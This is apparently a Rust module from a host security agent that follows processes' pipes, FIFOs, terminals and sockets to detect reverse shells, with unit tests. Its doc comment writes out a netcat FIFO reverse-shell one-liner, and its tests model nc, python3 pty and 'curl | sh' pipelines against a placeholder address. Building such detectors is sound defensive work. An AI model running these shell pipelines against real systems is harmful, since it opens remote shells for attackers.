//! Where standard streams lead across processes, from what the kernel said at exec, open and connect.
//!
//! ```text
//! cat f | sh -i | nc HOST PORT > f
//!   nc.stdout → fifo → cat → pipe → sh → pipe → nc.stdin      loops, and nc holds an outbound connection
//! ```
//!
//! Nothing is looked up afterwards in `/proc`: the processes may be gone by then.
use crate::kernel::decode::{End, Inet};
use seawall_model::event::{Stdio, Stream};
use std::collections::{HashMap, HashSet, VecDeque};

/// Processes remembered with streams that lead on; a node rarely runs a tenth of it.
const MAX_NODES: usize = 16_384;
/// Hops followed; real chains have three or four.
const MAX_HOPS: usize = 8;
/// Processes looked at for one decision, so that a fan-out of pipes cannot stall the node.
const MAX_VISITED: usize = 64;
/// Names kept as evidence.
const MAX_PEERS: usize = 16;
/// Named pipes one process may have opened beside its standard streams.
const MAX_OPENED: usize = 16;

/// `open(2)`: O_ACCMODE and its values.
const ACCESS_MODE: u32 = 3;
const WRITE_ONLY: u32 = 1;

/// The processes whose streams lead on, and the channels between them. Owned and changed by the pipeline alone.
#[derive(Debug, Default)]
pub(crate) struct Streams {
    nodes: HashMap<u64, Node>,
    /// Insertion order, for eviction.
    order: VecDeque<u64>,
    /// Processes at either end of a pipe or FIFO.
    channels: HashMap<Channel, Vec<u64>>,
    /// Who opened the driving end of a pseudo terminal.
    drivers: HashMap<u64, u64>,
    /// Processes forgotten because there were too many.
    pub(crate) evicted: u64,
}

#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash)]
enum Channel {
    Pipe(u64),
    Fifo(u64),
}

#[derive(Debug, Default)]
struct Node {
    name: String,
    ends: [End; 3],
    /// FIFOs opened by name, with whether they are read and written.
    opened: Vec<(Channel, bool, bool)>,
    /// The latest outbound connection.
    connected: Option<Inet>,
}

impl Node {
    fn reads(&self, channel: Channel) -> bool {
        channel_of(&self.ends[0]) == Some(channel)
            || self.opened.iter().any(|(opened, read, _)| *opened == channel && *read)
    }

    fn writes(&self, channel: Channel) -> bool {
        self.ends[1..].iter().any(|end| channel_of(end) == Some(channel))
            || self.opened.iter().any(|(opened, _, write)| *opened == channel && *write)
    }

    fn channels(&self) -> impl Iterator<Item = Channel> + '_ {
        self.ends
            .iter()
            .filter_map(channel_of)
            .chain(self.opened.iter().map(|(channel, ..)| *channel))
    }
}

fn channel_of(end: &End) -> Option<Channel> {
    match end {
        End::Pipe(id) => Some(Channel::Pipe(*id)),
        End::Fifo(id) => Some(Channel::Fifo(*id)),
        _ => None,
    }
}

fn leads_on(end: &End) -> bool {
    matches!(end, End::Pipe(_) | End::Fifo(_) | End::Inet(_))
}

/// Whether a stream comes from, or goes to, an outbound connection, with the hops.
enum Leads {
    Outbound(Vec<String>),
    Elsewhere,
    Unknown,
}

impl Streams {
    /// A process has a new program: `previous` is its exec id before.
    pub(crate) fn exec(
        &mut self,
        exec_id: u64,
        previous: Option<u64>,
        name: &str,
        ends: [End; 3],
        lineage: &[(u64, [End; 2])],
    ) {
        if let Some(previous) = previous {
            // A terminal's driving end may be inherited; FIFOs opened by name show in the new streams if they are.
            for driver in self.drivers.values_mut().filter(|driver| **driver == previous) {
                *driver = exec_id;
            }
            self.remove(previous);
        }
        if ends.iter().any(leads_on) {
            self.set_ends(exec_id, Some(name), &ends);
        }
        for (ancestor, ends) in lineage {
            if ends.iter().any(leads_on) || self.nodes.contains_key(ancestor) {
                self.set_ends(*ancestor, None, ends);
            }
        }
    }

    /// Names a process known so far by its number alone.
    pub(crate) fn name(&mut self, exec_id: u64, name: &str) {
        if let Some(node) = self.nodes.get_mut(&exec_id)
            && node.name.is_empty()
        {
            node.name = name.to_owned();
        }
    }

    pub(crate) fn exit(&mut self, exec_id: u64) {
        self.remove(exec_id);
        self.drivers.retain(|_, driver| *driver != exec_id);
    }

    /// A FIFO or the driving end of a terminal was opened. `flags` are those of `open(2)`.
    pub(crate) fn opened(&mut self, exec_id: u64, name: &str, end: &End, flags: u32) {
        if let End::Master(terminal) = end {
            self.drivers.insert(*terminal, exec_id);
            self.node(exec_id, Some(name));
            return;
        }
        let Some(channel) = channel_of(end) else { return };
        let access = flags & ACCESS_MODE;
        let node = self.node(exec_id, Some(name));
        if node.opened.len() < MAX_OPENED {
            node.opened.push((channel, access != WRITE_ONLY, access != 0));
            join(&mut self.channels, channel, exec_id);
        }
    }

    /// A process connected; `ends` are its standard streams at that time.
    pub(crate) fn connected(&mut self, exec_id: u64, name: &str, to: Inet, ends: &[End; 3]) {
        self.set_ends(exec_id, Some(name), ends);
        self.node(exec_id, Some(name)).connected = Some(to);
    }

    /// What rules see of `ends`, the standard streams of `exec_id` now.
    pub(crate) fn decide(&self, exec_id: u64, ends: &[End; 3]) -> Stdio {
        let streams = std::array::from_fn(|index| stream(&ends[index]));
        let members = self.find_loop(exec_id);
        let mut peers = self.neighbours(exec_id, ends);
        for member in members.iter().flatten() {
            push_name(&mut peers, self.name_of(*member));
        }
        let input = self.follow(exec_id, &ends[0], true, 0);
        let output = self.follow(exec_id, &ends[1], false, 0);
        let (remote, route) = match (input, output) {
            (Leads::Outbound(from), Leads::Outbound(to)) => {
                let route = format!("stdin ← {}; stdout → {}", from.join(" ← "), to.join(" → "));
                (Some(true), Some(route))
            }
            (input, output) => match members.as_deref().and_then(|members| self.relay(members)) {
                Some(route) => (Some(true), Some(route)),
                None if matches!(input, Leads::Elsewhere) || matches!(output, Leads::Elsewhere) => {
                    (Some(false), None)
                }
                None => (None, None),
            },
        };
        Stdio { streams, remote, loops: members.is_some(), peers, route }
    }

    /// The route of a loop one of whose other members holds an outbound connection.
    fn relay(&self, members: &[u64]) -> Option<String> {
        let (relay, to) = members
            .iter()
            .find_map(|id| Some((self.name_of(*id)?, self.nodes.get(id)?.connected?)))?;
        let names: Vec<&str> = members.iter().filter_map(|id| self.name_of(*id)).collect();
        let round = names.join(" → ");
        Some(format!("stdout → {round} → stdin; {relay} → {}", peer(&to)))
    }

    fn follow(&self, me: u64, end: &End, input: bool, hops: usize) -> Leads {
        if hops > MAX_HOPS {
            return Leads::Unknown;
        }
        let (others, via): (Vec<u64>, &str) = match end {
            End::Inet(inet) => {
                return match inet.outbound {
                    Some(true) => Leads::Outbound(vec![peer(inet)]),
                    Some(false) => Leads::Elsewhere,
                    None => Leads::Unknown,
                };
            }
            End::Terminal(terminal) => match self.drivers.get(terminal) {
                Some(driver) if *driver != me => (vec![*driver], "terminal"),
                _ => return Leads::Unknown,
            },
            End::Pipe(id) => (self.across(me, Channel::Pipe(*id), input), "pipe"),
            End::Fifo(id) => (self.across(me, Channel::Fifo(*id), input), "fifo"),
            End::Socket(_) | End::Unknown => return Leads::Unknown,
            End::Closed | End::File | End::Null | End::Master(_) => return Leads::Elsewhere,
        };
        let mut unknown = others.is_empty();
        for other in others.into_iter().take(MAX_VISITED / MAX_HOPS) {
            let Some(node) = self.nodes.get(&other) else {
                unknown = true;
                continue;
            };
            match self.follow(other, &node.ends[usize::from(!input)], input, hops + 1) {
                Leads::Outbound(mut route) => {
                    route.splice(..0, [via.to_owned(), node.name.clone()]);
                    return Leads::Outbound(route);
                }
                Leads::Unknown => unknown = true,
                Leads::Elsewhere => {}
            }
        }
        if unknown { Leads::Unknown } else { Leads::Elsewhere }
    }

    /// Processes at the other end: writers of what `me` reads, readers of what it writes.
    fn across(&self, me: u64, channel: Channel, input: bool) -> Vec<u64> {
        let at_other_end = |id: &&u64| {
            **id != me
                && self.nodes.get(*id).is_some_and(|node| {
                    if input { node.writes(channel) } else { node.reads(channel) }
                })
        };
        self.channels.get(&channel).into_iter().flatten().filter(at_other_end).copied().collect()
    }

    /// Other processes through which the output of `me` comes back to its input, in that order.
    fn find_loop(&self, me: u64) -> Option<Vec<u64>> {
        let own = self.nodes.get(&me)?;
        let mut came_from: HashMap<u64, u64> = HashMap::new();
        let mut visited: HashSet<u64> = HashSet::from([me]);
        let mut queue = VecDeque::from([me]);
        while let Some(id) = queue.pop_front() {
            let Some(node) = self.nodes.get(&id) else { continue };
            for channel in node.channels().filter(|channel| node.writes(*channel)) {
                if id != me && own.reads(channel) {
                    let mut members = vec![id];
                    while let Some(before) = came_from.get(&members[members.len() - 1])
                        && *before != me
                    {
                        members.push(*before);
                    }
                    members.reverse();
                    return Some(members);
                }
                for next in self.across(id, channel, false) {
                    if visited.len() < MAX_VISITED && visited.insert(next) {
                        came_from.insert(next, id);
                        queue.push_back(next);
                    }
                }
            }
        }
        None
    }

    fn neighbours(&self, me: u64, ends: &[End; 3]) -> Vec<String> {
        let mut names = Vec::new();
        for (index, end) in ends.iter().enumerate() {
            let Some(channel) = channel_of(end) else { continue };
            for other in self.across(me, channel, index == 0) {
                push_name(&mut names, self.name_of(other));
            }
        }
        names
    }

    fn name_of(&self, exec_id: u64) -> Option<&str> {
        self.nodes.get(&exec_id).map(|node| node.name.as_str()).filter(|name| !name.is_empty())
    }

    fn node(&mut self, exec_id: u64, name: Option<&str>) -> &mut Node {
        if !self.nodes.contains_key(&exec_id) {
            self.order.push_back(exec_id);
            while self.nodes.len() >= MAX_NODES {
                let Some(oldest) = self.order.pop_front() else { break };
                if self.nodes.contains_key(&oldest) {
                    self.remove(oldest);
                    self.evicted += 1;
                }
            }
            // Dead processes leave holes in the order; it must not outgrow the nodes for ever.
            if self.order.len() > 2 * MAX_NODES {
                let nodes = &self.nodes;
                self.order.retain(|id| nodes.contains_key(id) || *id == exec_id);
            }
        }
        let node = self.nodes.entry(exec_id).or_default();
        if let Some(name) = name
            && node.name != name
        {
            node.name = name.to_owned();
        }
        node
    }

    /// `ends` has two or three streams; those not given keep their value.
    fn set_ends(&mut self, exec_id: u64, name: Option<&str>, ends: &[End]) {
        self.leave(exec_id);
        let node = self.node(exec_id, name);
        node.ends[..ends.len()].copy_from_slice(ends);
        let channels: Vec<Channel> = node.channels().collect();
        for channel in channels {
            join(&mut self.channels, channel, exec_id);
        }
    }

    fn leave(&mut self, exec_id: u64) {
        let Some(node) = self.nodes.get(&exec_id) else { return };
        for channel in node.channels() {
            if let Some(members) = self.channels.get_mut(&channel) {
                members.retain(|member| *member != exec_id);
                if members.is_empty() {
                    self.channels.remove(&channel);
                }
            }
        }
    }

    fn remove(&mut self, exec_id: u64) {
        self.leave(exec_id);
        self.nodes.remove(&exec_id);
    }
}

fn join(channels: &mut HashMap<Channel, Vec<u64>>, channel: Channel, exec_id: u64) {
    let members = channels.entry(channel).or_default();
    if !members.contains(&exec_id) {
        members.push(exec_id);
    }
}

fn push_name(names: &mut Vec<String>, name: Option<&str>) {
    if let Some(name) = name
        && names.len() < MAX_PEERS
        && !names.iter().any(|known| known == name)
    {
        names.push(name.to_owned());
    }
}

fn peer(inet: &Inet) -> String {
    std::net::SocketAddr::new(inet.remote, inet.remote_port).to_string()
}

fn stream(end: &End) -> Stream {
    match end {
        End::Unknown => Stream::Unknown,
        End::Closed => Stream::Closed,
        End::File => Stream::File,
        End::Null => Stream::Null,
        End::Terminal(_) | End::Master(_) => Stream::Terminal,
        End::Pipe(inode) => Stream::Pipe { inode: *inode },
        End::Fifo(inode) => Stream::Fifo { inode: *inode },
        End::Inet(inet) => Stream::Socket {
            outbound: inet.outbound,
            remote: Some(inet.remote),
            remote_port: Some(inet.remote_port),
            inode: inet.inode,
        },
        End::Socket(inode) => {
            Stream::Socket { outbound: None, remote: None, remote_port: None, inode: *inode }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use End::{File, Null, Pipe};

    fn socket(outbound: Option<bool>) -> End {
        End::Inet(inet(outbound))
    }

    fn inet(outbound: Option<bool>) -> Inet {
        Inet {
            outbound,
            protocol: 6,
            local: [198, 51, 100, 1].into(),
            local_port: 40_000,
            remote: [203, 0, 113, 9].into(),
            remote_port: 4444,
            inode: 1,
        }
    }

    /// `(remote, loops)` of process 9 with `ends`.
    #[track_caller]
    fn check(streams: &Streams, ends: [End; 3], remote: Option<bool>, loops: bool) -> Stdio {
        let stdio = streams.decide(9, &ends);
        assert_eq!((stdio.remote, stdio.loops), (remote, loops), "{stdio:?}");
        stdio
    }

    #[test]
    fn sockets_decide_by_direction() {
        let streams = Streams::default();
        for (direction, remote) in
            [(Some(true), Some(true)), (Some(false), Some(false)), (None, None)]
        {
            check(&streams, [socket(direction); 3], remote, false);
        }
        check(&streams, [socket(Some(true)), Pipe(1), File], None, false);
        check(&streams, [socket(Some(true)), File, File], Some(false), false);
        check(&streams, [End::Socket(1); 3], None, false);
        check(&streams, [Null, File, File], Some(false), false);
        check(&streams, [End::Unknown; 3], None, false);
    }

    #[test]
    fn terminal_follows_who_drives_it() {
        let mut streams = Streams::default();
        streams.opened(1, "python3", &End::Master(7), 2);
        check(&streams, [End::Terminal(7); 3], None, false);
        streams.exec(9, None, "sh", [End::Terminal(7); 3], &[(1, [socket(Some(true)); 2])]);
        let stdio = check(&streams, [End::Terminal(7); 3], Some(true), false);
        assert_eq!(
            stdio.route.as_deref(),
            Some(
                "stdin ← terminal ← python3 ← 203.0.113.9:4444; stdout → terminal → python3 → 203.0.113.9:4444"
            )
        );
        streams.exit(1);
        check(&streams, [End::Terminal(7); 3], None, false);
        // A container runtime's init opens the terminal it then becomes the user of.
        streams.opened(5, "runc", &End::Master(8), 2);
        streams.exec(9, Some(5), "sh", [End::Terminal(8); 3], &[]);
        check(&streams, [End::Terminal(8); 3], None, false);
    }

    #[test]
    fn pipes_are_followed_to_both_sides() {
        let mut streams = Streams::default();
        streams.exec(1, None, "cat", [socket(Some(true)), Pipe(1), Null], &[]);
        let shell = [Pipe(1), socket(Some(true)), socket(Some(true))];
        streams.exec(9, None, "sh", shell, &[]);
        check(&streams, shell, Some(true), false);
        // `curl | sh`: curl's connection is not a standard stream, and the output goes elsewhere.
        streams.connected(1, "curl", inet(Some(true)), &[Null, Pipe(1), Null]);
        let piped = [Pipe(1), File, File];
        streams.exec(9, None, "sh", piped, &[]);
        assert_eq!(check(&streams, piped, Some(false), false).peers, ["curl"]);
    }

    #[test]
    fn fifo_closes_the_loop_in_any_order() {
        let sh = [Pipe(1), Pipe(2), Pipe(2)];
        let nc = [Pipe(2), End::Fifo(3), Null];
        let steps: [fn(&mut Streams); 4] = [
            |streams| streams.exec(1, None, "cat", [Null, Pipe(1), Null], &[]),
            |streams| streams.opened(1, "cat", &End::Fifo(3), 0),
            |streams| streams.exec(9, None, "sh", [Pipe(1), Pipe(2), Pipe(2)], &[]),
            |streams| {
                streams.exec(4, None, "nc", [Pipe(2), End::Fifo(3), Null], &[]);
                streams.connected(4, "nc", inet(Some(true)), &[Pipe(2), End::Fifo(3), Null]);
            },
        ];
        for order in [[0, 1, 2, 3], [3, 2, 0, 1], [2, 3, 0, 1]] {
            let mut streams = Streams::default();
            for step in order {
                steps[step](&mut streams);
            }
            let stdio = check(&streams, sh, Some(true), true);
            assert_eq!(
                stdio.route.as_deref(),
                Some("stdout → nc → cat → stdin; nc → 203.0.113.9:4444")
            );
            let relay = streams.decide(4, &nc);
            assert!(relay.loops && relay.remote != Some(true), "{relay:?}");
            assert!(relay.peers.contains(&"sh".to_owned()), "{relay:?}");
        }
        // A program that talks to itself over its own FIFO loops through nobody.
        let mut streams = Streams::default();
        streams.exec(9, None, "sh", [End::Fifo(3), End::Fifo(3), Null], &[]);
        check(&streams, [End::Fifo(3), End::Fifo(3), Null], None, false);
    }

    #[test]
    fn rings_and_crowds_end() {
        let mut streams = Streams::default();
        for id in 0..200 {
            streams.exec(id, None, "p", [Pipe(id), Pipe(id + 1), Null], &[]);
        }
        streams.exec(200, None, "p", [Pipe(200), Pipe(0), Null], &[]);
        let stdio = streams.decide(9, &[Pipe(9), Pipe(10), Null]);
        assert_eq!(stdio.remote, None);
        for id in 0..MAX_NODES as u64 + 5 {
            streams.exec(1_000 + id, None, "p", [Pipe(7), Null, Null], &[]);
        }
        assert!(streams.nodes.len() <= MAX_NODES && streams.evicted > 0);
    }
}
